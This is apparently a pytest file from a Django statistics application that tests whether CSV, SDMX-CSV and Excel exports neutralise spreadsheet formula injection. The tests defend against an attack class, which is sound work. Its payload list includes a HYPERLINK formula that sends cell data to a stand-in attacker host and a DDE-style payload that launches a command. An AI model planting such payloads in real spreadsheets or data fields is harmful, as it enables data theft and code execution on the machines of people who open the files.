"""Security review finding 7: spreadsheet formulas in stored text never leave MATIS live."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Source")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
]


@pytest.fixture
def poisoned(db):
    from matis.official_statistics.loader import data_path
    from matis.official_statistics.models import Observation, Submission
    from matis.official_statistics.services import observations_import

    with data_path("glotip_COMMIT6.csv").open("rb") as source:
        observations_import(actor=None, source=source, fmt="glotip", filename="glotip.csv")
    Submission.objects.update(status=Submission.Status.APPROVED)
    Observation.objects.update(approved=True)
    rows = list(Observation.objects.filter(country_id="THA").order_by("pk")[: len(PAYLOADS)])
    for row, payload in zip(rows, PAYLOADS, strict=True):
        row.source = payload[:100]
        row.save(update_fields=["source"])
    return rows


def _cells_csv(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("fmt", ["csv", "sdmx-csv"])
def test_finding_07_statistics_text_exports_neutralise_formulas(user_client, poisoned, fmt):
    client = user_client("statistics_officer", "THA")
    response = client.get(f"/statistics/export/?fmt={fmt}&country=THA")
    assert response.status_code == 200
    cells = _cells_csv(
        b"".join(response.streaming_content) if response.streaming else response.content
    )
    sources = [c for c in cells if any(p[:8] in c for p in PAYLOADS)]
    assert len(sources) == len(PAYLOADS), sources
    for cell in sources:
        assert cell.startswith("'"), cell
        assert cell[1:] in [p[:100] for p in PAYLOADS]


def test_finding_07_statistics_excel_export_holds_no_live_formula(user_client, poisoned):
    client = user_client("statistics_officer", "THA")
    response = client.get("/statistics/export/?fmt=xlsx&country=THA")
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    workbook = load_workbook(io.BytesIO(content))
    seen = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and any(p[:8] in cell.value for p in PAYLOADS):
                    assert cell.value.startswith("'") and cell.data_type == "s"
                    seen += 1
    assert seen == len(PAYLOADS)
